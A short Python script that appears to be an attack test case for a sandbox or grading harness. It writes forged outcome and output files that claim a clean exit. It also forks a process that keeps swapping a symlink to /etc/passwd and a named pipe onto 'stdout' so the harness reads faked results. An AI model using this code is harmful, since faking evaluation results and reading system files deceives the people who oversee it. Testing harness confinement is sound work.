# threat: T3; ends: passed
# Makes files of its own with the names of outcomes, and swaps them all the time until it is killed; nobody looks for them here.
import os
import time

from attack import end

for name in ["outcome.json", "stdout", "stderr", "confinement.json", "plan.json", "../outcome.json", "../home/stdout"]:
    with open(name, "w", encoding="utf-8") as file:
        file.write('{"end": {"exited": 0}}')
if os.fork() == 0:
    while True:
        try:
            os.symlink("/etc/passwd", "new")
            os.rename("new", "stdout")
            os.mkfifo("new")
            os.rename("new", "stdout")
        except OSError:
            pass
time.sleep(0.05)
end()
